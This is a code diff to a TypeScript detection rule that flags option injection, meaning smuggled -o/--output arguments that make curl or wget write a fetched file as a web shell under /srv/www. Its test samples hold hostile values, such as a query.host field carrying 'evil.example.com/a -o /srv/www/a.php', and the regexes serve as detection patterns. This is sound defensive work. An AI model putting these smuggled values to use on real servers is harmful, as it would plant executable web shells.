@@ -1,5 +1,6 @@
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
+import { isInValue } from '../../placement/value-place.ts';
 import { followsValue } from '../../text/place.ts';
 import { wordList } from '../../text/words.ts';
 import type { Match, ValueRule } from '../rule.ts';
@@ -42,6 +43,7 @@ export const optionInjection: ValueRule = {
     '--output=/srv/www/a.php',
     '--output=/srv/www/a.php http://evil.example.com/a.txt',
     '-O/srv/www/a.jsp',
+    { body: { 'query.host': 'evil.example.com/a -o /srv/www/a.php' } },
   ],
   lookalikes: [
     'How do I use the ProxyCommand option of ssh?',
@@ -55,6 +57,7 @@ export const optionInjection: ValueRule = {
     '--post-file=DATEI           Die POST-Methode verwenden',
     '--output=/srv/www/index.html',
     '--output=/tmp/a.php writes the page there',
+    'Is it written with -o /srv/www/a.php',
     'curl -o /tmp/a.tgz https://example.com/a.tgz downloads the archive into the folder',
   ],
 };
@@ -68,7 +71,8 @@ function judge(subject: Subject): Match | undefined {
     const match = form.exec(text);
     if (match === null) continue;
     const start = match.index + (match[1] ?? '').length;
-    if (followsValue(text, start)) return { start, end: match.index + match[0].length };
+    if (form === behindValue ? isInValue(subject, start) : followsValue(text, start))
+      return { start, end: match.index + match[0].length };
   }
   const match = option.exec(text);
   if (match === null) return undefined;
@@ -84,8 +88,13 @@ function judge(subject: Subject): Match | undefined {
 /** `--post-file=FILE          use the POST method`: the help of a program. */
 const help = /^[\p{Lu}\p{Lo}-]{2,20}\s{3,40}\p{L}/u;
 
+/** A program to write where a server runs it, behind the address to fetch. */
+const behindValue =
+  /^(\s{0,4}[^\s<>]{1,200}\s{1,4})(?:-[oO] ?|--output(?:-document|-file)?[= ])\/[\w./-]{1,120}\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi|sh|py|pl|so)[\s"';]{0,4}$/;
+
 /** Options that are an attack with the value they have here. */
 const forms: readonly RegExp[] = [
+  behindValue,
   /(^\s{0,4}|["'] )-[oO] ?\/[\w./-]{2,120}\s{1,4}(?:https?|ftp):\/\/\S{4,80}/,
   /^(\s{0,4})(?:https?|ftp):\/\/\S{4,200}\s{1,4}-[oO] ?\/[\w./-]{2,120}/,
   /(^\s{0,4}|["'] )(?:-[oO] ?|--output(?:-document|-file)?[= ])\/[\w./-]{1,120}\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)[\s"';]{0,4}$/,
